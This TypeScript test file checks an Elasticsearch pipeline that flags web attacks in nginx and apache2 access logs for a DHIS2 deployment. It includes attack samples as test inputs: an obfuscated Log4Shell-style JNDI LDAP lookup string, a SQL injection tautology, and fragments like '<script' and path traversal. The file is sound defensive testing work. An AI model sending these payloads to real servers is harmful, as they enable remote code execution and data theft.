import assert from "node:assert/strict";
import { loadAttacks } from "../../pipelines/attacks";
import { filebeatEvents } from "../../commands/parse/filebeat";
import { realElasticsearch, type RealElasticsearch } from "../../commands/elasticsearch";
import { flat, putPipelines, simulate } from "../../commands/elasticsearch/pipelines";

/** What one line may take, on a busy machine too. `npm run bench:pipeline` measures it. */
const MILLISECONDS = 5000;
const PADDING = "a".repeat(9000);

type Texts = Partial<Record<"target" | "user" | "referer" | "agent", string>>;

/** A request as nginx logs it: quotes, backslashes and control characters are escaped. */
function nginx({ target = "/dhis/", user = "-", referer = "-", agent = "Mozilla/5.0" }: Texts): string {
  const escape = (text: string) =>
    [...Buffer.from(text)]
      .map((byte) =>
        byte < 32 || byte > 126 || byte === 34 || byte === 92
          ? `\\x${byte.toString(16).toUpperCase().padStart(2, "0")}`
          : String.fromCharCode(byte),
      )
      .join("");
  return `203.0.113.9 - ${escape(user)} [01/Mar/2024:10:11:12 +0000] "GET ${escape(target)} HTTP/1.1" 404 150 "${escape(referer)}" "${escape(agent)}"`;
}

/** The same as apache2 logs it. */
function apache({ target = "/dhis/" }: Texts): string {
  const escaped = target.replaceAll("\\", "\\\\").replaceAll('"', '\\"');
  return `203.0.113.9 - - [01/Mar/2024:10:11:12 +0000] "GET ${escaped} HTTP/1.1" 404 150 "-" "Mozilla/5.0"`;
}

describe("attacks in requests", function () {
  this.timeout(400_000);
  const { attacks } = loadAttacks();
  let elasticsearch: RealElasticsearch;
  let entry: string;
  before(async () => {
    elasticsearch = await realElasticsearch();
    ({ entry } = await putPipelines(elasticsearch, "attacks"));
  });

  /** What was found in each line. */
  async function found(messages: readonly string[], type = "nginx_proxy"): Promise<string[][]> {
    const from =
      type === "nginx_proxy"
        ? { journal: "nginx_access" }
        : { file: "/var/log/apache2/dhis2-siem-access.log" };
    const events = messages.map(
      (message) =>
        filebeatEvents({ "@timestamp": "2024-03-01T10:11:12Z", container: "proxy", type, ...from, message })[
          "8.19"
        ],
    );
    return (await simulate(elasticsearch, entry, events)).map(flat).map((document) => {
      assert.equal(document["error.message"], undefined, String(document["error.message"]));
      return (document["dhis2.web.attack"] ?? []) as string[];
    });
  }

  it("are found as their examples say, in nginx's and apache2's lines", async () => {
    for (const { id, matches, silent } of attacks) {
      for (const [write, type] of [
        [nginx, "nginx_proxy"],
        [apache, "apache_proxy"],
      ] as const) {
        const hits = await found(
          matches.map((target) => write({ target })),
          type,
        );
        hits.forEach((ids, at) =>
          assert.ok(ids.includes(id), `${type}: ${id} is not found in ${matches[at]}`),
        );
        const quiet = await found(
          silent.map((target) => write({ target })),
          type,
        );
        quiet.forEach((ids, at) => assert.deepEqual(ids, [], `${type}: ${silent[at]}`));
      }
    }
  });

  it("are found behind 9,000 characters, and between as many", async () => {
    for (const { id, matches } of attacks) {
      const padded = matches.flatMap((target) => {
        const [path = "", query] = target.split(/\?(.*)/s);
        return query === undefined
          ? [`/${PADDING}${path}`, `/${PADDING}${path}/${PADDING}`].filter(
              (text) => !target.endsWith("/..") || text.endsWith("/.."),
            )
          : [`${path}?p=${PADDING}&${query}`, `${path}?p=${PADDING}&${query}&z=${PADDING}`];
      });
      const hits = await found(padded.map((target) => nginx({ target })));
      hits.forEach((ids, at) =>
        assert.ok(ids.includes(id), `${id}: ${padded[at]?.replaceAll(PADDING, "...")}`),
      );
    }
  });

  it("are found in the headers that the log has", async () => {
    const text = "${${lower:j}ndi:ldap://203.0.113.9/a}";
    const events = (["user", "referer", "agent"] as const).map((header) => nginx({ [header]: text }));
    for (const ids of await found(events)) assert.deepEqual(ids, ["lookup-injection"]);
    assert.deepEqual(await found([nginx({ agent: "1' or '1'='1" })]), [["sql-injection"]]);
  });

  it("are not found in what browsers and DHIS2's apps send", async () => {
    const agents = [
      "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
      "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
      "dhis2-android/2.9 (Android 13; sdk_gphone64; build:TE1A.220922.012)",
      "python-requests/2.31.0",
    ];
    const targets = [
      "/dhis/api/41/analytics.json?dimension=dx:fbfJHSPpUQD;cYeuwXTCPkU&dimension=pe:LAST_12_MONTHS&filter=ou:LEVEL-2&displayProperty=NAME&period=202401",
      "/dhis/api/dataElements?fields=id%2CdisplayName%2Cchildren%5Bid%5D&filter=displayName:ilike:births%20and%20deaths%20or%20(other)",
      "/dhis/api/organisationUnits?filter=name:in:[Union,Select,Sleep]&paging=false",
      "/dhis/api/sqlViews/a1B2c3D4e5F/data.csv?var=name:O%27Brien&criteria=age:5",
      '/dhis/api/dataStore/app/key?value={"a":{"b":[1,2,{"c":"x; y (z)"}]},"or":"1"}',
      "/dhis/api/trackedEntities?filter=w75KJ2mc4zz:like:D%27Arc&filter=a1B2c3D4e5F:ge:2020-01-01&order=createdAt:desc",
      "/dhis/api/metadata?assumeTrue=false&online=true&dataElements:filter=code:in:[A,B]",
      "/dhis/dhis-web-dashboard/static/js/main.8f3a2c1d.chunk.js",
      "/dhis/api/icons?search=script&keywords=alert",
      "/dhis/api/expressions/description?expression=d2:condition(%22%23%7BfbfJHSPpUQD%7D%20%3E%203%22,1,0)",
    ];
    const events = targets.flatMap((target) =>
      agents.map((agent) =>
        nginx({ target, agent, referer: `https://dhis2.example.org${target.split("?")[0]}?page=1&q=a%20b` }),
      ),
    );
    const hits = await found(events);
    hits.forEach((ids, at) => assert.deepEqual(ids, [], events[at]));
  });

  it("takes a bounded time, whatever the texts are made of", async () => {
    const pieces = [
      "%25",
      "\\x22",
      "/*",
      "${",
      "{{",
      "on",
      "union",
      " or ",
      "..",
      "&#",
      "'",
      "--",
      "%c0",
      "(",
      "|",
      "%u003c",
      "<script",
      "%0a",
    ];
    for (const piece of pieces) {
      const text = piece.repeat(Math.ceil(45_000 / piece.length));
      const start = performance.now();
      await found([nginx({ target: `/${text}?${text}`, user: text, referer: text, agent: text })]);
      const took = performance.now() - start;
      assert.ok(took <= MILLISECONDS, `${piece}: ${Math.round(took)} ms`);
    }
  });
});
